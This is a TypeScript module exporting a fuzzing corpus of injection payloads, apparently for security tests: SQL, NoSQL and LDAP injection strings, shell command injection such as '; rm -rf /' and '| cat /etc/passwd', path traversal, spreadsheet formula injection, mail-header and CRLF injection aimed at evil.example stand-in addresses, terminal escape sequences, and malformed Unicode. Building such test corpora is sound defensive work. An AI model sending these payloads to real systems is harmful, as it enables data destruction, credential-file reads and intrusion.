import { SCRIPT_PAYLOADS } from './script-payloads';

const databases = [
  `' OR '1'='1`,
  `' OR 1=1--`,
  `'; DROP TABLE users;--`,
  `" OR ""="`,
  `1;SELECT pg_sleep(9)`,
  `'||(SELECT version())||'`,
  `' UNION SELECT NULL--`,
  `') OR ('a'='a`,
  `\\'; DROP TABLE users;--`,
  `$$;DROP TABLE users;$$`,
  `E'\\x27'`,
  '$1',
  '%',
  '_%_',
  `a & | ! ( ) <-> :*`,
  `'a':*`,
  '!!!!(((',
  'NOT NOT NOT',
  `tags:"x" OR tags:`,
  '{"$ne":null}',
  '*)(uid=*',
];

const shells = [
  '$(id)',
  '`id`',
  '; rm -rf /',
  '| cat /etc/passwd',
  '&& id',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  'CON',
  'aux.png',
  'a\u0000.png',
  '--help',
  '-rf',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("//evil.example")',
  '@SUM(1+1)',
];

const lines = [
  'a\r\nBcc: eve@evil.example',
  'a\nTo: eve@evil.example\n\nHi',
  'a%0d%0aSet-Cookie:x=1',
  'a\r\n\r\n<html>',
  'a\u2028Bcc: eve@evil.example',
  '\n{"level":60,"msg":"forged"}',
  'a\\nb',
];

/** What a terminal would obey. */
const terminals = [
  '\u001b[2J\u001b[H',
  '\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001b]8;;https://evil.example\u0007x',
  '\u001bP+q544e\u001b\\',
  '\u009b2J',
  '\u009d0;title\u009c',
  'ok\rforged',
  'ok\b\bno',
  'a\u0007b',
  'a\u007fb',
];

const alphabets = [
  '\u202egnp.exe',
  '\u2066a\u2069',
  'a\u200bb',
  '\u200b\u200b',
  '\u3164\u3164',
  '\ufeffa',
  '\ufffe\uffff',
  '\ud800',
  '\udc00\ud800',
  'a\ud83d',
  '👩‍👩‍👧‍👦👩‍👩‍👧‍👦',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮',
  'ﷺﷺﷺ',
  'İstanbul ıŞ',
  'ﬁﬂﬃ',
  'سلام <b>',
  'เ็็็็็',
  '日本語テスト',
  'ＡＢＣ１２３',
];

/** More than 200 texts that attack an interpreter: browsers, databases, shells, mail, logs, terminals. */
export const INJECTION_PAYLOADS: readonly string[] = [
  ...SCRIPT_PAYLOADS,
  ...databases,
  ...shells,
  ...lines,
  ...terminals,
  ...alphabets,
];
